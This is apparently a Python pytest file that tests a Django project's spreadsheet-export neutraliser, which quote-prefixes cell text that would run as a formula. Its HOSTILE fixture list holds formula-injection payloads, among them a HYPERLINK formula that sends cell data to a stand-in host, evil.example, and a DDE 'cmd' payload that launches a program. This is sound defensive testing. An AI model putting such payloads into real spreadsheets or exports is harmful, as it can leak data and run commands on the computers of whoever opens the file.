"""The neutraliser every export cell passes through (core.spreadsheet): text a spreadsheet
would run as a formula is written as quote-prefixed text; everything else is untouched."""

import datetime
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.interfaces.exports import write_sheets
from core.spreadsheet import (
    FORMULA_TRIGGERS,
    csv_row,
    neutralise,
    xlsx_row,
    xlsx_value,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_text_that_starts_a_formula(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "Nguyễn Văn An", "", " =1+1", "a=b", "'=1+1", None, 0, -5, -2.5, Decimal("-3.10"),
    True, datetime.date(2025, 1, 2)])
def test_neutralise_leaves_plain_text_numbers_and_dates_alone(value):
    assert neutralise(value) == value


def test_lazy_translations_are_judged_by_their_text():
    assert neutralise(gettext_lazy("Yes")) == "Yes"


def test_xlsx_value_drops_xml_illegal_characters_before_judging():
    assert (xlsx_value("\x01=1+1"), xlsx_value("Tên\x0bđệm"), xlsx_value(-7)) == (
        "'=1+1", "Tênđệm", -7)


def test_rows_are_neutralised_cell_by_cell():
    assert csv_row(["=1", -1, "x"]) == ["'=1", -1, "x"]
    assert xlsx_row(["@x", 2.5, None]) == ["'@x", 2.5, None]


@given(st.text())
def test_no_neutralised_text_starts_a_formula(text):
    result = neutralise(text)
    assert not result.startswith(FORMULA_TRIGGERS)
    assert result in (text, "'" + text)


@given(st.text())
def test_no_xlsx_text_starts_a_formula(text):
    assert not xlsx_value(text).startswith(FORMULA_TRIGGERS)


def test_the_streamed_sheet_writes_hostile_names_as_text_and_numbers_as_numbers():
    workbook = Workbook(write_only=True)
    write_sheets(workbook, "T", ["=Tiêu đề"], [["=1+1", -3], ["+x", 4.5]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(buffer).active
    cells = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
    assert cells == [("'=Tiêu đề", "s"), (None, "n"), ("'=1+1", "s"), (-3, "n"),
                     ("'+x", "s"), (4.5, "n")]
